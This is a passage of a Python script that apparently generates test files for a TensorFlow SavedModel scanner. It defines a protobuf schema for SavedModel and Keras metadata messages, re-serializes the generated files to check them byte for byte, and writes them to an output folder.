                    ("ret", 4, "map", True, "string")],
    "OpDef": [("name", 1, "string", False, None), ("input_arg", 2, "msg", True, "ArgDef"),
              ("output_arg", 3, "msg", True, "ArgDef")],
    "ArgDef": [("name", 1, "string", False, None), ("type", 3, "int32", False, None)],
    "SaverDef": [("filename_tensor_name", 1, "string", False, None), ("save_tensor_name", 2, "string", False, None),
                 ("restore_op_name", 3, "string", False, None), ("max_to_keep", 4, "int32", False, None),
                 ("sharded", 5, "bool", False, None), ("version", 7, "int32", False, None)],
    "AssetFileDef": [("tensor_info", 1, "msg", False, "TensorInfo"), ("filename", 2, "string", False, None)],
    "TensorInfo": [("name", 1, "string", False, None)],
    "SavedObjectGraph": [("nodes", 1, "msg", True, "SavedObject")],
    "SavedObject": [("user_object", 4, "msg", False, "SavedUserObject")],
    "SavedUserObject": [("identifier", 1, "string", False, None), ("version", 2, "msg", False, "VersionDef"),
                        ("metadata", 3, "string", False, None)],
    "SavedMetadata": [("nodes", 1, "msg", True, "KerasSavedObject")],
    "KerasSavedObject": [("node_id", 2, "int32", False, None), ("node_path", 3, "string", False, None),
                         ("identifier", 4, "string", False, None), ("metadata", 5, "string", False, None),
                         ("version", 6, "msg", False, "VersionDef")],
}
ONEOFS = {"AttrValue": ("value", {"list", "s", "i", "b", "type", "shape", "tensor", "func"})}


def cross_check(checked):
    classes = message_classes(SCHEMA, ONEOFS, "savedmodel_scan_check.proto")
    if classes is None:
        print("gen_savedmodel_scan: python3-protobuf not installed, skipping the cross-check")
        return
    for file_name, (message_name, data) in checked:
        reparse(classes, message_name, data, file_name)
    print(f"gen_savedmodel_scan: python3-protobuf re-serialized {len(checked)} files byte for byte")


def main():
    out_dir = os.path.join(sys.argv[1], "savedmodel_scan")
    os.makedirs(out_dir, exist_ok=True)
    generated = files()
    cross_check([(name, entry) for name, entry in generated.items() if entry[0]])
    for name, (_, data) in generated.items():
        with open(os.path.join(out_dir, name), "wb") as out:
            out.write(data)


if __name__ == "__main__":
    main()
